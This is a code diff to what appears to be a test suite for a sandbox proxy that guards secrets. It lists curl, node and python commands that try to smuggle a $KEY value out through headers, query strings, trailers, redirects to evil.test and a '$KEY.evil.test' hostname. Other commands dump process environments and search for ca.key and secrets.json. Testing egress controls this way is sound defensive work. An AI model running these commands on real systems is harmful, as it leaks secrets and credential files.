@@ -4,7 +4,7 @@
  */
 import { attemptsOf, holdsValueElsewhere } from '../attempt.ts';
 import type { Seen } from '../world/events.ts';
-import { secretValues } from '../scene.ts';
+import { secretValues } from '../secrets.ts';
 
 const secret = attemptsOf('secret');
 const reflection = attemptsOf('reflection');
@@ -44,7 +44,10 @@ export const secretAttempts = [
   ),
   secret('secret-cookie-elsewhere', 'curl -sS -b "k=$KEY" http://www.allowed.test/x', other),
   secret('secret-header-name-elsewhere', 'curl -sS -H "$KEY: x" http://www.allowed.test/x', other),
-  secret('secret-method-elsewhere', 'curl -sS -X "$KEY" http://www.allowed.test/x', other),
+  secret('secret-method-elsewhere', 'curl -sS --max-time 3 -X "$KEY" http://www.allowed.test:7777/x', {
+    control: 'open',
+    through: (event) => event.kind === 'bytes' && event.text.includes('squash-strict'),
+  }),
   secret(
     'secret-websocket-elsewhere',
     `curl -sS --http1.1 --max-time 3 ${bearer} -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' http://www.allowed.test/ws`,
@@ -61,7 +64,7 @@ export const secretAttempts = [
   ),
   secret(
     'secret-redirect-to-refused',
-    `curl -sSL --location-trusted ${bearer} 'https://secret.allowed.test/redirect?to=http://evil.test/leak'`,
+    `curl -sSL --location-trusted ${bearer} 'https://secret.allowed.test/redirect?to=http://evil.test/x'`,
   ),
   secret('secret-on-other-port', `curl -sS ${bearer} http://ported-secret.allowed.test:7777/x`, {
     control: 'open',
@@ -69,7 +72,10 @@ export const secretAttempts = [
   }),
   secret('secret-in-query', 'curl -sS "https://secret.allowed.test/x?k=$KEY"', wide),
   secret('secret-in-path', 'curl -sS "https://secret.allowed.test/$KEY/x"', wide),
-  secret('secret-in-path-encoded', 'curl -sS "https://secret.allowed.test/x?k=%73${KEY#s}"', wide),
+  secret('secret-in-path-encoded', 'curl -sS "https://secret.allowed.test/x?k=%73${KEY#s}"', {
+    control: { none: 'a placeholder that somebody escaped is put in nowhere' },
+    through: outOfPlace,
+  }),
   secret('secret-in-body', 'curl -sS -d "k=$KEY" https://secret.allowed.test/x', wide),
   secret('secret-in-chunked-body', 'echo "$KEY" | curl -sS -T - https://secret.allowed.test/upload', wide),
   secret(
@@ -79,12 +85,9 @@ export const secretAttempts = [
   ),
   secret('secret-in-h2-path', 'node $T/h2.mjs secret.allowed.test secret.allowed.test - "/x?k=$KEY"', wide),
   secret(
-    'secret-in-trailer',
-    'node $T/h2.mjs secret.allowed.test secret.allowed.test - /x body=x "trailer:x-key=$KEY"',
-    {
-      control: { none: 'no surface of a secret is a trailer: nobody has its value put in there' },
-      through: outOfPlace,
-    },
+    'secret-trailer-elsewhere',
+    `python3 $T/attack.py tcp www.allowed.test 80 "POST /x HTTP/1.1\\r\\nHost: www.allowed.test\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: x-key\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\nx-key: $KEY\\r\\n\\r\\n"`,
+    other,
   ),
   secret('secret-in-authority', 'node $T/h2.mjs secret.allowed.test "$KEY.evil.test" - /x', {
     control: { none: 'no surface of a secret is the authority' },
@@ -101,7 +104,10 @@ export const secretAttempts = [
         event.kind === 'request' && JSON.stringify(event.headers).includes('real-wide-value'),
     },
   ),
-  secret('secret-without-tls-verification', `curl -ksS ${bearer} https://bad-cert.allowed.test/x`),
+  secret('secret-without-tls-verification', `curl -ksS ${bearer} https://bad-cert.allowed.test/x`, {
+    control: 'open',
+    through: (event) => event.kind === 'request',
+  }),
   secret('secret-in-the-environment', 'env; cat /proc/[0-9]*/environ | tr "\\0" "\\n"', {
     control: { none: 'shown by the placeholder, which the same commands find' },
   }),
@@ -114,7 +120,7 @@ export const secretAttempts = [
   ),
   secret(
     'secret-in-the-certificate-key',
-    'find / -xdev \\\\( -name "ca.key" -o -name secrets.json \\\\) 2>/dev/null | sed "s/^/breach: /"',
+    'find ${RUN%/run} /root /etc /home /run /var /usr/local -xdev -name ca.key -o -name secrets.json 2>/dev/null | sed "s/^/breach: /"',
     {
       control: 'machine',
     },
@@ -134,6 +140,7 @@ export const secretAttempts = [
     'trailer',
     'bytewise',
     'status',
+    'untyped',
   ].map((how) =>
     reflection(
       `reflection-${how}`,
@@ -158,7 +165,7 @@ export const secretAttempts = [
   ),
   reflection(
     'reflection-unasked-coding',
-    `curl -sS --http1.1 ${bearer} 'https://secret.allowed.test/reflect?how=gzip' | python3 -c 'import gzip,sys; d=sys.stdin.buffer.read(); print(gzip.decompress(d) if d[:2]==b"\\\\x1f\\\\x8b" else d)'`,
+    `curl -sS --http1.1 ${bearer} 'https://secret.allowed.test/reflect?how=gzip' | python3 -c 'import gzip,sys; d=sys.stdin.buffer.read(); print(gzip.decompress(d) if d[:2]==bytes([31,139]) else d)'`,
   ),
   reflection(
     'reflection-websocket',
